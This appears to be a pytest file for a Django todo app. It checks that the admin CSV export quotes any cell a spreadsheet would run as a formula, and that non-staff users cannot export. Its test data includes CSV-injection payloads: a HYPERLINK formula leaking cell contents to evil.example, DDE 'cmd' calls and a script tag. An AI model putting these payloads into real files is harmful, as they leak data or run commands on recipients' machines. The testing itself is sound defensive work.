"""The admin's CSV export never hands a spreadsheet a formula, nor a browser a page.

The export is TodoAdmin's "export_csv" action: it posts to the todo changelist with
`_selected_action` and streams text/csv as an attachment.
"""

import csv
import io
from http import HTTPStatus

import pytest
from django.urls import reverse

from tests.factories import TagFactory, TodoFactory, UserFactory
from tests.helpers import database_snapshot

pytestmark = pytest.mark.django_db

# A spreadsheet runs a cell starting with one of these as a formula (OWASP's CSV injection
# list; tab and carriage return too, as some spreadsheets skip them before the formula).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]
# Usernames allow only letters, digits and @.+-_, so theirs are the formulas those can spell.
USERNAMES = ["+1234", "-1", "@evil"]


def post_export(client, todos):
    """The export action run on `todos` from the changelist, as its form posts it."""
    return client.post(
        reverse("admin:todos_todo_changelist"),
        {"action": "export_csv", "_selected_action": [todo.pk for todo in todos]},
    )


def export(client, todos):
    """The header and rows of the CSV that exporting `todos` streams."""
    response = post_export(client, todos)
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content).decode()
    header, *rows = csv.reader(io.StringIO(content, newline=""))
    return header, rows


def defused(value):
    """`value` as its cell must read: behind a quote if a spreadsheet would run it."""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value


@pytest.fixture
def hostile_todos():
    todos = []
    for index, payload in enumerate(PAYLOADS):
        owner = UserFactory(username=USERNAMES[index % len(USERNAMES)] + str(index))
        tag = TagFactory(owner=owner, name=payload.replace(",", ";")[:50])
        todos.append(TodoFactory(owner=owner, title=payload, description=payload, tags=[tag]))
    return todos


def test_no_exported_cell_starts_a_formula(admin_client, hostile_todos):
    _, rows = export(admin_client, hostile_todos)
    assert len(rows) == len(hostile_todos)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row


@pytest.mark.parametrize("column", ["title", "description"])
def test_a_formula_is_kept_as_text_behind_a_quote(admin_client, hostile_todos, column):
    header, rows = export(admin_client, hostile_todos)
    cells = {row[header.index("id")]: row[header.index(column)] for row in rows}
    for todo in hostile_todos:
        assert cells[str(todo.pk)] == defused(getattr(todo, column))


def test_usernames_and_tag_names_are_defused_too(admin_client, hostile_todos):
    header, rows = export(admin_client, hostile_todos)
    owners = {row[header.index("owner")] for row in rows}
    tags = {row[header.index("tags")] for row in rows}
    assert owners == {f"'{todo.owner.username}" for todo in hostile_todos}
    for todo in hostile_todos:
        assert defused(todo.tags.get().name) in tags


def test_a_non_staff_user_cannot_export(client, user, hostile_todos):
    client.force_login(user)
    before = database_snapshot()
    response = post_export(client, hostile_todos)
    assert response.status_code == HTTPStatus.FOUND
    assert response.url.startswith(reverse("admin:login"))
    assert database_snapshot() == before
